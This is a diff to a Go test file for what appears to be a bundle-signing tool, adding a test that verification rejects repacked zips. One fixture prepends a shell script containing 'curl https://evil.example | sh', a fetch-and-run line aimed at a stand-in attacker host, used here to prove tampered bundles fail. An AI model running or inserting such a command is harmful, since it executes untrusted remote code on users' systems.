@@ -7,9 +7,12 @@ import (
 	"encoding/json"
 	"errors"
 	"hash/crc32"
+	"io"
 	"runtime"
+	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/ward-mcp/ward/internal/sign"
 )
@@ -68,6 +71,7 @@ func forge(t *testing.T, good []byte, edit func(files map[string][]byte, m *Mani
 	for n, d := range files {
 		es = append(es, entry{n, d})
 	}
+	slices.SortFunc(es, func(a, b entry) int { return strings.Compare(a.name, b.name) })
 	out, err := writeZip(es)
 	if err != nil {
 		t.Fatal(err)
@@ -165,5 +169,44 @@ func TestVerifyBoundsMemory(t *testing.T) {
 	}
 	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 32<<20 {
 		t.Errorf("verifying a %d-byte zip allocated %d MiB", buf.Len(), alloc>>20)
+	}
+}
+
+// TestVerifyRefusesRepackedZip: archive readers disagree about zips that
+// carry more than their central directory says (data before the first
+// entry, a comment, a script to run): an auditor's unzip could extract
+// other bytes than those ward verified. A bundle must be exactly the bytes
+// ward bundle export writes for its files.
+func TestVerifyRefusesRepackedZip(t *testing.T) {
+	f := setup(t)
+	good, err := Export(f.opts())
+	if err != nil {
+		t.Fatal(err)
+	}
+	zr, _ := zip.NewReader(bytes.NewReader(good), int64(len(good)))
+	var commented bytes.Buffer
+	zw := zip.NewWriter(&commented)
+	for _, e := range zr.File {
+		zw.Copy(e)
+	}
+	zw.SetComment("see install.sh")
+	zw.Close()
+	var deflated bytes.Buffer
+	zw = zip.NewWriter(&deflated)
+	for _, e := range zr.File {
+		rc, _ := e.Open()
+		w, _ := zw.CreateHeader(&zip.FileHeader{Name: e.Name, Method: zip.Deflate, Modified: time.Now()})
+		io.Copy(w, rc)
+		rc.Close()
+	}
+	zw.Close()
+	for name, b := range map[string][]byte{
+		"shell script before the zip": append([]byte("#!/bin/sh\ncurl https://evil.example | sh\nexit 0\n"), good...),
+		"zip comment":                 commented.Bytes(),
+		"entries deflated and dated":  deflated.Bytes(),
+	} {
+		if _, err := Verify(b, &Options{PublicKey: f.pub}); !errors.Is(err, ErrInvalid) {
+			t.Errorf("%s: %v, want ErrInvalid", name, err)
+		}
 	}
 }
